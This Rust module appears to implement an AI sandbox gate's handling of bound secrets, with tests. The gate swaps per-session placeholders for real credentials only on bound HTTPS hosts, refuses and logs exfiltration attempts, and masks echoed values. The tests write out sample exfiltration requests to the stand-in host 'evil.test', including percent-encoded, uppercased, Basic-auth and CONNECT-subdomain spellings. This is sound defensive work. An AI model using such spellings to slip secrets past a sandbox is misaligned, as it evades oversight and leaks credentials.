//! Bound secrets, the pure part: a secret bound to hosts (`secret = NAME for HOST`) is in the
//! sandbox only as a per-session placeholder; the gate, which terminates TLS for those hosts,
//! puts the real value into the request headers there and nowhere else. This module decides,
//! for a request's bytes and its destination: which placeholders to replace, and whether one is
//! going where its secret is not bound (refused, and recorded as an exfiltration attempt). The
//! connection code is `terminate` (TLS, HTTP) and `server` (the proxy head).
//!
//! A placeholder is recognised in the bytes as sent, after percent-decoding, in ASCII
//! lowercase, and inside HTTP Basic credentials (base64), so re-spelling it does not hide it.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use std::borrow::Cow;

/// Every placeholder starts with this, so a user who sees one knows what it is.
pub(crate) const PREFIX: &str = "aisb_placeholder_";

/// How much of a plain-HTTP request's body (what came with its head) the gate scans for
/// placeholders before it relays it; on a terminated host every frame is scanned as it passes.
pub(crate) const BODY_SCAN: usize = 1024;

pub use crate::contract::Bound;

impl Bound {
    fn bound_to(&self, host: &str) -> bool {
        self.hosts.iter().any(|h| h.eq_ignore_ascii_case(host))
    }
    /// A held login's refresh token: it goes only into the body of a refresh the gate checked
    /// (`login::check_refresh`), never into a header.
    fn body_only(&self) -> bool {
        self.login.as_ref().is_some_and(|l| l.refresh)
    }
    /// Held back from every request as it is: a refresh token (only into a checked refresh's
    /// body) and the AWS credentials (only signed with: `sigv4`).
    fn held_back(&self) -> bool {
        self.body_only() || self.aws.is_some()
    }
    /// A JWT held by its signature: its placeholder stands after the token's header and claims.
    fn jwt(&self) -> bool {
        self.login.as_ref().is_some_and(|l| l.jwt)
    }
}

/// A session's AWS credentials, each as (placeholder, value).
pub(crate) struct AwsHeld<'a> {
    pub(crate) key_id: (&'a str, &'a str),
    pub(crate) secret: (&'a str, &'a str),
    pub(crate) token: Option<(&'a str, &'a str)>,
}

/// A placeholder found where its secret may not go.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Misuse {
    pub(crate) secret: String,
    pub(crate) hosts: Vec<String>,
}

impl Misuse {
    fn of(b: &Bound) -> Misuse {
        Misuse { secret: b.name.clone(), hosts: b.hosts.clone() }
    }
    /// The log's reason: names the secret and where the request went.
    pub(crate) fn reason(&self, host: &str, clear: bool) -> String {
        let how =
            if clear { " over plain HTTP (never substituted: the value would travel in clear)" } else { "" };
        format!("exfiltration attempt: the placeholder of {} sent to {host}{how}", self.secret)
    }
    /// The refusal's hint: where the secret does go.
    pub(crate) fn hint(&self) -> String {
        if self.hosts.is_empty() {
            return format!(
                "ai-sandbox gate: exfiltration attempt refused: this request carries the placeholder of {}, which the gate keeps: it is sent nowhere",
                self.secret
            );
        }
        format!(
            "ai-sandbox gate: exfiltration attempt refused: this request carries the placeholder of {}, which goes only to {} over HTTPS",
            self.secret,
            self.hosts.join(", ")
        )
    }
}

/// A session's bound secrets. A login's token the gate holds (`state = claude`) is read from
/// its cell at each use: the gate's refresh replaces it there for every session of that login
/// (`login`).
#[derive(Debug, Clone, Default)]
pub(crate) struct Secrets(Vec<Bound>, Vec<Option<super::login::Cell>>);

impl Secrets {
    /// A login's token may come with no value: the store had no login at launch, and the gate
    /// takes the first one made inside (`first_login`).
    pub(crate) fn new(all: Vec<Bound>) -> Secrets {
        let all: Vec<Bound> = all
            .into_iter()
            .filter(|b| b.placeholder.contains(PREFIX) && (!b.value.is_empty() || b.login.is_some()))
            .collect();
        let cells = all.iter().map(|b| b.login.as_ref().map(|l| super::login::cell(l, &b.value))).collect();
        Secrets(all, cells)
    }

    /// Each secret with its value now: a login's token with none yet is neither substituted
    /// nor masked (its placeholder is still refused where it does not go: `misuse`).
    fn now(&self) -> impl Iterator<Item = (&Bound, Cow<'_, str>)> {
        let all = self.0.iter().zip(&self.1).map(|(b, cell)| match cell {
            Some(c) => (b, Cow::Owned(c.get())),
            None => (b, Cow::Borrowed(b.value.as_str())),
        });
        all.filter(|(_, v)| !v.is_empty())
    }

    /// The cells of the login renewed at `endpoint` set again from its store (what `login import`
    /// or another gate's session wrote there since).
    pub(crate) fn reload(&self, endpoint: &str) {
        for b in self.0.iter().filter(|b| b.login.as_ref().is_some_and(|l| l.endpoint == endpoint)) {
            if let Some(l) = &b.login {
                super::login::cell(l, "");
            }
        }
    }

    /// Whether this session holds the login renewed at `endpoint` with no token of it yet: the
    /// store had none at launch, and no session of the login has made one since (ADR 0090).
    pub(crate) fn first_login(&self, endpoint: &str) -> bool {
        let mut of = self
            .0
            .iter()
            .zip(&self.1)
            .filter(|(b, _)| b.login.as_ref().is_some_and(|l| l.endpoint == endpoint));
        let mut any = false;
        let empty = of.all(|(_, cell)| {
            any = true;
            cell.as_ref().is_some_and(|c| c.get().is_empty())
        });
        any && empty
    }

    /// Whether `host` + `path` is the token endpoint of a login the gate holds here.
    pub(crate) fn renews(&self, host: &str, path: &str) -> bool {
        let at = format!("{}{path}", host.to_ascii_lowercase());
        self.0.iter().any(|b| b.login.as_ref().is_some_and(|l| l.endpoint == at))
    }

    /// The placeholders a refresh at `endpoint` may carry (`login::check_refresh`).
    pub(crate) fn refresh_placeholders(&self, endpoint: &str) -> Vec<&str> {
        let mine = |b: &&Bound| b.body_only() && b.login.as_ref().is_some_and(|l| l.endpoint == endpoint);
        self.0.iter().filter(mine).map(|b| b.placeholder.as_str()).collect()
    }

    /// Whether a request of `grant` at `endpoint` is a form (Google's refresh; Codex's and
    /// Google's code exchange), not JSON.
    pub(crate) fn form(&self, endpoint: &str, grant: &super::login::Grant) -> bool {
        let form = |l: &crate::contract::session::LoginRef| match grant {
            super::login::Grant::Refresh(_) => l.form,
            super::login::Grant::Code => l.code_form,
        };
        self.0.iter().any(|b| b.login.as_ref().is_some_and(|l| l.endpoint == endpoint && form(l)))
    }

    /// The held tokens a token endpoint's answer renews: each token's login, and the
    /// placeholder the sandbox keeps for it.
    pub(crate) fn renewed_at(
        &self,
        endpoint: &str,
    ) -> impl Iterator<Item = (&crate::contract::session::LoginRef, &str)> {
        self.0.iter().filter_map(move |b| {
            b.login.as_ref().filter(|l| l.endpoint == endpoint).map(|l| (l, b.placeholder.as_str()))
        })
    }

    /// A request body on its way to `host` (a token endpoint's), with the placeholders of
    /// secrets bound there replaced by their values now; `Err` when one is bound elsewhere, or
    /// a value holds a byte that JSON or a form would have to escape (never sent as it is).
    pub(crate) fn substitute_body(&self, body: &[u8], host: &str) -> Result<Vec<u8>, String> {
        if let Some(m) = self.misuse(body, Some(host)) {
            return Err(m.reason(host, false));
        }
        let mine: Vec<(&Bound, Cow<'_, str>)> = self.now().filter(|(b, _)| b.bound_to(host)).collect();
        if let Some((b, _)) =
            mine.iter().find(|(_, v)| !v.bytes().all(|c| c.is_ascii_alphanumeric() || b"-._~".contains(&c)))
        {
            return Err(format!(
                "the value of {} holds a character a request body would have to escape",
                b.name
            ));
        }
        Ok(swap(body, &mine).unwrap_or_else(|| body.to_vec()))
    }

    /// A form's checked pairs (`login::check_grant_form`) on their way to `host`, each
    /// value with the placeholders of secrets bound there replaced by their values now, encoded
    /// again (every byte but `A-Za-z0-9-_.~` escaped: a Google refresh token holds `/`); `Err`
    /// when one is bound elsewhere.
    pub(crate) fn substitute_form(&self, pairs: &[(String, String)], host: &str) -> Result<Vec<u8>, String> {
        let mine: Vec<(&Bound, Cow<'_, str>)> = self.now().filter(|(b, _)| b.bound_to(host)).collect();
        let mut out = Vec::new();
        for (k, v) in pairs {
            if let Some(m) = self.misuse(v.as_bytes(), Some(host)) {
                return Err(m.reason(host, false));
            }
            let v = swap(v.as_bytes(), &mine).unwrap_or_else(|| v.as_bytes().to_vec());
            out.push(format!("{}={}", super::percent::encode(k, false), super::percent::encode(&v, false)));
        }
        Ok(out.join("&").into_bytes())
    }

    /// The AWS credentials the gate signs requests to `host` with, each as (placeholder,
    /// value): key id, secret key, session token (`None`: no `secret = aws` is bound to `host`).
    pub(crate) fn aws(&self, host: &str) -> Option<AwsHeld<'_>> {
        use crate::policy::secret::AwsPart;
        let part = |p: AwsPart| {
            self.0.iter().find(|b| b.aws == Some(p)).map(|b| (b.placeholder.as_str(), b.value.as_str()))
        };
        let bound = self.0.iter().any(|b| b.aws == Some(AwsPart::KeyId) && b.bound_to(host));
        Some(AwsHeld {
            key_id: part(AwsPart::KeyId).filter(|_| bound)?,
            secret: part(AwsPart::SecretKey)?,
            token: part(AwsPart::SessionToken),
        })
    }

    pub(crate) fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Whether the gate opens TLS to `host`: some secret with a value is bound to it, or it is
    /// the token endpoint's host of a login with no token yet (whose code exchange the gate
    /// reads: ADR 0090). Asked at each connection: a login's API hosts are opened once the gate
    /// has its tokens, not before (a session using a key of its own there is left as it was).
    pub(crate) fn terminates(&self, host: &str) -> bool {
        self.0.iter().zip(&self.1).any(|(b, cell)| {
            let valued = cell.as_ref().map_or(!b.value.is_empty(), |c| !c.get().is_empty());
            let endpoint = b.login.as_ref().and_then(|l| l.endpoint.split('/').next());
            b.bound_to(host) && (valued || endpoint.is_some_and(|e| e.eq_ignore_ascii_case(host)))
        })
    }

    /// The first placeholder in `bytes` whose secret may not go to `to` (`None`: to nowhere, as
    /// for a cleartext request or a CONNECT head, where nothing is ever substituted).
    pub(crate) fn misuse(&self, bytes: &[u8], to: Option<&str>) -> Option<Misuse> {
        if self.0.is_empty() || !may_hold_placeholder(bytes) {
            return None;
        }
        let views = views(bytes);
        self.0
            .iter()
            .filter(|b| !to.is_some_and(|h| b.bound_to(h)))
            .find(|b| views.iter().any(|v| contains(v, b.placeholder.as_bytes())))
            .map(Misuse::of)
    }

    /// One request header's value on its way to `host`: `Ok(Some)` with the placeholders of
    /// secrets bound to `host` replaced by their values (inside HTTP Basic credentials too),
    /// `Ok(None)` when it carries none, `Err` when it carries one bound elsewhere.
    pub(crate) fn substitute(&self, value: &[u8], host: &str) -> Result<Option<Vec<u8>>, Misuse> {
        if let Some(m) = self.misuse(value, Some(host)) {
            return Err(m);
        }
        let mine: Vec<(&Bound, Cow<'_, str>)> =
            self.now().filter(|(b, _)| b.bound_to(host) && !b.held_back()).collect();
        if let Some(creds) = basic(value)
            && let Some(new) = swap(&creds, &mine)
        {
            let scheme = &value[..value.len() - value.trim_ascii_start().len() + 6];
            return Ok(Some([scheme, STANDARD.encode(new).as_bytes()].concat()));
        }
        Ok(swap(value, &mine))
    }

    /// The spellings of the real values of `host`'s secrets that a response from it must not
    /// carry back to the agent: a server that echoes a credential (`scrub`).
    pub(crate) fn masks(&self, host: &str) -> super::scrub::Masks {
        self.masks_of(|b| b.bound_to(host))
    }

    /// `masks`, and those of every held login's tokens (a token endpoint's answer may carry any).
    pub(crate) fn masks_with_logins(&self, host: &str) -> super::scrub::Masks {
        self.masks_of(|b| b.bound_to(host) || b.login.is_some())
    }

    /// A held JWT is masked whole (as its header and claims before its placeholder) and by its
    /// signature alone.
    fn masks_of(&self, which: impl Fn(&Bound) -> bool) -> super::scrub::Masks {
        let mut spelled: Vec<(&str, String, String)> = Vec::new();
        for (b, v) in self.now().filter(|(b, _)| which(b)) {
            let jwt = b.jwt().then(|| crate::contract::session::jwt_parts(&v)).flatten();
            if let Some((signed, signature)) = jwt {
                spelled.push((&b.name, signature.to_string(), b.placeholder.clone()));
                spelled.push((&b.name, v.to_string(), format!("{signed}.{}", b.placeholder)));
            } else {
                spelled.push((&b.name, v.to_string(), b.placeholder.clone()));
            }
        }
        super::scrub::Masks::new(spelled.iter().map(|(n, v, p)| (*n, v.as_bytes(), p.as_bytes())))
    }
}

/// `v` with the placeholders of `mine` replaced by their values; a held JWT's placeholder with
/// the header and claims before it (`x.y.PLACEHOLDER`, whatever they are), so that its
/// signature only ever travels after its own claims. `None`: nothing replaced.
fn swap(v: &[u8], mine: &[(&Bound, Cow<'_, str>)]) -> Option<Vec<u8>> {
    let plain = replace_all(
        v,
        mine.iter().filter(|(b, _)| !b.jwt()).map(|(b, v)| (b.placeholder.as_bytes(), v.as_bytes())),
    );
    let mut cur = plain.clone().unwrap_or_else(|| v.to_vec());
    let mut swapped = false;
    for (b, real) in mine.iter().filter(|(b, _)| b.jwt()) {
        while let Some(i) = find(&cur, b.placeholder.as_bytes()) {
            let start = jwt_start(&cur, i);
            cur = [&cur[..start], real.as_bytes(), &cur[i + b.placeholder.len()..]].concat();
            swapped = true;
        }
    }
    if swapped { Some(cur) } else { plain }
}

/// Where the JWT whose signature starts at `at` starts: two base64url parts, each followed by a
/// dot, before it (else `at`: a placeholder standing alone).
fn jwt_start(b: &[u8], at: usize) -> usize {
    let part = |c: u8| c.is_ascii_alphanumeric() || c == b'-' || c == b'_';
    let back = |end: usize| -> Option<usize> {
        // `end` is just past a dot; the part before that dot, if it has one.
        let dot = end.checked_sub(1).filter(|&d| b[d] == b'.')?;
        let start = b[..dot].iter().rposition(|&c| !part(c)).map_or(0, |i| i + 1);
        (start < dot).then_some(start)
    };
    back(at).and_then(back).unwrap_or(at)
}

/// Whether `bytes` could hold a placeholder in any spelling `misuse` reads: only then is it
/// worth building the spellings. Each view needs one of these in the bytes as sent: the prefix
/// in any case (as sent, lowercased), a `%` (percent-decoded), `basic ` in any case (Basic
/// credentials). One pass over the bytes; a body without any of them costs no copy.
pub(crate) fn may_hold_placeholder(bytes: &[u8]) -> bool {
    static SIGNS: std::sync::OnceLock<aho_corasick::AhoCorasick> = std::sync::OnceLock::new();
    let signs = SIGNS.get_or_init(|| {
        aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build([PREFIX, "%", "basic "])
            .expect("three fixed patterns")
    });
    signs.is_match(bytes)
}

/// Whether `bytes` hold a placeholder, any secret's, however spelt (`views`).
pub(crate) fn holds_placeholder(bytes: &[u8]) -> bool {
    may_hold_placeholder(bytes)
        && views(bytes).iter().any(|v| contains(&v.to_ascii_lowercase(), PREFIX.as_bytes()))
}

/// The spellings a placeholder is looked for in: as sent, percent-decoded, lowercased, and the
/// decoded credentials of each `Basic` token.
fn views(bytes: &[u8]) -> Vec<Cow<'_, [u8]>> {
    let mut out = vec![Cow::Borrowed(bytes)];
    let decoded = super::percent::decode(bytes);
    out.push(Cow::Owned(decoded.to_ascii_lowercase()));
    let lower = bytes.to_ascii_lowercase();
    let mut at = 0;
    while let Some(i) = find(&lower[at..], b"basic ") {
        let start = at + i;
        if let Some(creds) = basic(&bytes[start..]) {
            out.push(Cow::Owned(creds.to_ascii_lowercase()));
        }
        at = start + 6;
    }
    out
}

/// The decoded credentials of a value that starts with `Basic ` (any case, leading spaces).
fn basic(value: &[u8]) -> Option<Vec<u8>> {
    let v = value.trim_ascii_start();
    if v.len() < 6 || !v[..6].eq_ignore_ascii_case(b"basic ") {
        return None;
    }
    let token: Vec<u8> =
        v[6..].iter().copied().take_while(|c| !c.is_ascii_whitespace() && *c != b',').collect();
    STANDARD.decode(token).ok()
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    if needle.is_empty() {
        return None;
    }
    // Every byte of a terminated host's request bodies passes here: a SIMD search, not windows.
    memchr::memmem::find(hay, needle)
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    find(hay, needle).is_some()
}

/// `v` with every `from` replaced by its `to`; `None` when nothing was replaced.
fn replace_all<'a>(v: &[u8], pairs: impl Iterator<Item = (&'a [u8], &'a [u8])>) -> Option<Vec<u8>> {
    let mut cur = Cow::Borrowed(v);
    for (from, to) in pairs {
        while let Some(i) = find(&cur, from) {
            cur = Cow::Owned([&cur[..i], to, &cur[i + from.len()..]].concat());
        }
    }
    match cur {
        Cow::Owned(o) => Some(o),
        Cow::Borrowed(_) => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PH: &str = "aisb_placeholder_0123456789abcdef0123456789abcdef";
    const PH2: &str = "aisb_placeholder_fedcba9876543210fedcba9876543210";

    fn secrets() -> Secrets {
        Secrets::new(vec![
            Bound {
                name: "API_KEY".into(),
                placeholder: PH.into(),
                value: "sk-real-1".into(),
                hosts: vec!["api.example.com".into(), "up.example.com".into()],
                login: None,
                aws: None,
            },
            Bound {
                name: "GH_TOKEN".into(),
                placeholder: PH2.into(),
                value: "ghp_real".into(),
                hosts: vec!["github.com".into()],
                login: None,
                aws: None,
            },
        ])
    }

    #[test]
    fn a_placeholder_is_replaced_in_any_header_to_its_own_hosts_only() {
        let s = secrets();
        let bearer = format!("Bearer {PH}");
        assert_eq!(
            s.substitute(bearer.as_bytes(), "api.example.com"),
            Ok(Some(b"Bearer sk-real-1".to_vec()))
        );
        assert_eq!(s.substitute(PH.as_bytes(), "UP.example.com"), Ok(Some(b"sk-real-1".to_vec())));
        assert_eq!(s.substitute(b"application/json", "api.example.com"), Ok(None));
        let m = s.substitute(bearer.as_bytes(), "github.com").unwrap_err();
        assert_eq!(m.secret, "API_KEY");
        assert_eq!(m.hosts, ["api.example.com", "up.example.com"]);
        // A host that has no secret of its own: refused all the same.
        assert_eq!(s.substitute(bearer.as_bytes(), "evil.test").unwrap_err().secret, "API_KEY");
    }

    #[test]
    fn basic_credentials_are_decoded_replaced_and_encoded_again() {
        let s = secrets();
        let v = format!("Basic {}", STANDARD.encode(format!("x-access-token:{PH2}")));
        let out = s.substitute(v.as_bytes(), "github.com").unwrap().unwrap();
        assert_eq!(out, format!("Basic {}", STANDARD.encode("x-access-token:ghp_real")).into_bytes());
        let lower = format!("  basic {}", STANDARD.encode(format!("u:{PH2}")));
        let out = s.substitute(lower.as_bytes(), "github.com").unwrap().unwrap();
        assert_eq!(out, format!("  basic {}", STANDARD.encode("u:ghp_real")).into_bytes());
        // Elsewhere, the encoded placeholder is still seen.
        assert_eq!(s.substitute(v.as_bytes(), "api.example.com").unwrap_err().secret, "GH_TOKEN");
        // Values shorter than `Basic ` are plain values (never read past their end).
        assert_eq!(s.substitute(b"ab", "github.com"), Ok(None));
        assert_eq!(s.misuse(b"B", None), None);
        // Basic credentials with no placeholder are left as they are.
        let plain = format!("Basic {}", STANDARD.encode("u:p"));
        assert_eq!(s.substitute(plain.as_bytes(), "github.com"), Ok(None));
    }

    #[test]
    fn a_respelt_placeholder_is_still_found() {
        let s = secrets();
        let pct: String = PH.bytes().map(|b| format!("%{b:02X}")).collect();
        let upper = PH.to_ascii_uppercase();
        for head in [
            format!("GET http://evil.test/?k={PH} HTTP/1.1\r\n\r\n"),
            format!("GET http://evil.test/?k={pct} HTTP/1.1\r\n\r\n"),
            format!("GET / HTTP/1.1\r\nX: {upper}\r\n\r\n"),
            format!("GET / HTTP/1.1\r\nAuthorization: Basic {}\r\n\r\n", STANDARD.encode(format!("a:{PH}"))),
            format!("CONNECT {PH}.evil.test:443 HTTP/1.1\r\n\r\n"),
        ] {
            assert_eq!(s.misuse(head.as_bytes(), None).map(|m| m.secret), Some("API_KEY".into()), "{head}");
        }
        // Control: the same requests without it.
        assert_eq!(
            s.misuse(b"GET http://evil.test/?k=1 HTTP/1.1\r\nX: aisb_placeholder_\r\n\r\n", None),
            None
        );
    }

    #[test]
    fn to_a_bound_host_only_other_secrets_are_misuse() {
        let s = secrets();
        let body = format!("{{\"a\":\"{PH}\"}}");
        assert_eq!(s.misuse(body.as_bytes(), Some("api.example.com")), None);
        assert_eq!(s.misuse(body.as_bytes(), Some("github.com")).map(|m| m.secret), Some("API_KEY".into()));
        // To nowhere (cleartext, a CONNECT head): every secret is misuse, even to its own host.
        assert!(s.misuse(body.as_bytes(), None).is_some());
    }

    #[test]
    fn a_misuse_is_worded_with_the_secret_the_host_and_where_it_does_go() {
        let m = secrets().misuse(PH.as_bytes(), Some("evil.test")).unwrap();
        assert_eq!(
            m.reason("evil.test", false),
            "exfiltration attempt: the placeholder of API_KEY sent to evil.test"
        );
        assert_eq!(
            m.reason("evil.test", true),
            "exfiltration attempt: the placeholder of API_KEY sent to evil.test over plain HTTP (never substituted: the value would travel in clear)"
        );
        assert_eq!(
            m.hint(),
            "ai-sandbox gate: exfiltration attempt refused: this request carries the placeholder of API_KEY, which goes only to api.example.com, up.example.com over HTTPS"
        );
    }

    #[test]
    fn the_real_value_in_a_response_header_goes_back_to_the_placeholder() {
        let s = secrets();
        let mask = |v: &[u8], host: &str| super::super::scrub::Scrubber::new(s.masks(host)).whole(v);
        assert_eq!(
            mask(b"echo: Bearer sk-real-1", "api.example.com"),
            Some(format!("echo: Bearer {PH}").into())
        );
        assert_eq!(mask(b"nothing here", "api.example.com"), None);
        // Another host's responses are not this secret's to mask (its value never went there).
        assert_eq!(mask(b"sk-real-1", "github.com"), None);
    }

    #[test]
    fn only_bytes_with_a_sign_of_a_placeholder_are_looked_into() {
        for yes in [PH, "AISB_PLACEHOLDER_", "a%41", "Authorization: BASIC eA==", "x aisb_PlaceHolder_ y"] {
            assert!(may_hold_placeholder(yes.as_bytes()), "{yes}");
        }
        for no in ["", "plain text, no signs", "aisb_placeholde", "basic", "basicx "] {
            assert!(!may_hold_placeholder(no.as_bytes()), "{no}");
        }
        // A sign is not a placeholder: `holds_placeholder` looks in every spelling.
        for yes in ["AISB%5FPLACEHOLDER%5Fx", "Basic YWlzYl9wbGFjZWhvbGRlcl94", "x aisb_PlaceHolder_ y"] {
            assert!(holds_placeholder(yes.as_bytes()), "{yes}");
        }
        for no in ["", "a%2Fb", "Authorization: Basic eA==", "aisb_placeholde"] {
            assert!(!holds_placeholder(no.as_bytes()), "{no}");
        }
        // Each spelling `misuse` finds has a sign (so the shortcut never hides one).
        let s = secrets();
        let pct: String = PH.bytes().map(|b| format!("%{b:02X}")).collect();
        let basic = format!("Basic {}", STANDARD.encode(format!("u:{PH}")));
        for spelled in [PH.to_string(), PH.to_uppercase(), pct, basic] {
            assert!(
                may_hold_placeholder(spelled.as_bytes()) && s.misuse(spelled.as_bytes(), None).is_some(),
                "{spelled}"
            );
        }
    }

    #[test]
    fn terminated_hosts_are_exactly_the_bound_ones() {
        let s = secrets();
        assert!(s.terminates("api.example.com") && s.terminates("GitHub.com"));
        assert!(!s.terminates("example.com") && !s.terminates("x.api.example.com"));
        assert!(Secrets::default().is_empty() && !Secrets::default().terminates("github.com"));
    }

    #[test]
    fn only_a_held_jwt_takes_the_parts_before_its_placeholder_with_it() {
        // A secret line's placeholder after dotted text: the text stays.
        let v = format!("token=v1.key.{PH}");
        assert_eq!(
            secrets().substitute(v.as_bytes(), "api.example.com"),
            Ok(Some(b"token=v1.key.sk-real-1".to_vec()))
        );
    }

    #[test]
    fn a_held_jwt_starts_two_base64url_parts_before_its_placeholder() {
        for (text, start) in [
            (&b"Bearer h.c.PH"[..], 7),
            (b"h-_1.c2.PH", 0),
            (b"x=h.c.PH", 2),
            (b"PH", 0),
            (b"Bearer PH", 7),
            (b".c.PH", 3),
            (b"h..PH", 3),
            (b"c.PH", 2),
        ] {
            let at = text.len() - 2;
            assert_eq!(jwt_start(text, at), start, "{}", String::from_utf8_lossy(text));
        }
    }

    #[test]
    fn a_malformed_registration_binds_nothing() {
        let bad = |placeholder: &str, value: &str| Bound {
            name: "K".into(),
            placeholder: placeholder.into(),
            value: value.into(),
            hosts: vec!["h.test".into()],
            login: None,
            aws: None,
        };
        // An empty placeholder would match everywhere; an empty value would erase the header.
        assert!(Secrets::new(vec![bad("", "v"), bad(PH, "")]).is_empty());
        assert!(!Secrets::new(vec![bad(PH, "v")]).is_empty());
    }

    #[test]
    fn debug_never_shows_the_value() {
        let s = format!("{:?}", secrets());
        assert!(!s.contains("sk-real-1") && !s.contains("ghp_real") && s.contains("API_KEY"), "{s}");
    }

    /// `secret = aws for aws.test`: the key id and token bound there, the secret key nowhere.
    fn aws(token: bool) -> Secrets {
        use crate::policy::secret::AwsPart;
        let mut all = vec![
            Bound::new("AWS_ACCESS_KEY_ID", "aisb_placeholder_kid0", "AKIAREAL", &["aws.test"])
                .signs(AwsPart::KeyId),
            Bound::new("AWS_SECRET_ACCESS_KEY", "aisb_placeholder_sec0", "realsecret", &[])
                .signs(AwsPart::SecretKey),
            Bound::new("API_KEY", PH, "sk-real-1", &["api.example.com"]),
        ];
        if token {
            all.push(
                Bound::new("AWS_SESSION_TOKEN", "aisb_placeholder_tok0", "realtoken", &["aws.test"])
                    .signs(AwsPart::SessionToken),
            );
        }
        Secrets::new(all)
    }

    #[test]
    fn aws_credentials_are_found_for_their_hosts_and_never_substituted_as_they_are() {
        let s = aws(true);
        let held = s.aws("AWS.test").expect("bound there");
        assert_eq!(held.key_id, ("aisb_placeholder_kid0", "AKIAREAL"));
        assert_eq!(held.secret, ("aisb_placeholder_sec0", "realsecret"));
        assert_eq!(held.token, Some(("aisb_placeholder_tok0", "realtoken")));
        assert!(s.aws("api.example.com").is_none(), "not bound there");
        assert!(aws(false).aws("aws.test").unwrap().token.is_none());
        // Only the signer replaces them: a header to their host keeps the placeholders.
        let auth = b"AWS4-HMAC-SHA256 Credential=aisb_placeholder_kid0/x";
        assert_eq!(s.substitute(auth, "aws.test"), Ok(None));
        assert_eq!(s.substitute(b"aisb_placeholder_tok0", "aws.test"), Ok(None));
        // Control: another secret on its own host is substituted.
        assert_eq!(s.substitute(PH.as_bytes(), "api.example.com"), Ok(Some(b"sk-real-1".to_vec())));
        // Elsewhere the key id is misuse; the secret key is misuse everywhere, its host included.
        assert_eq!(s.substitute(auth, "api.example.com").unwrap_err().secret, "AWS_ACCESS_KEY_ID");
        let m = s.substitute(b"aisb_placeholder_sec0", "aws.test").unwrap_err();
        assert_eq!(m.secret, "AWS_SECRET_ACCESS_KEY");
        assert!(m.hint().contains("which the gate keeps: it is sent nowhere"), "{}", m.hint());
        assert!(Misuse::of(&s.0[0]).hint().contains("goes only to aws.test over HTTPS"));
        // Without its secret key a session has nothing to sign with.
        let lone = Secrets::new(vec![s.0[0].clone()]);
        assert!(lone.aws("aws.test").is_none());
    }
}
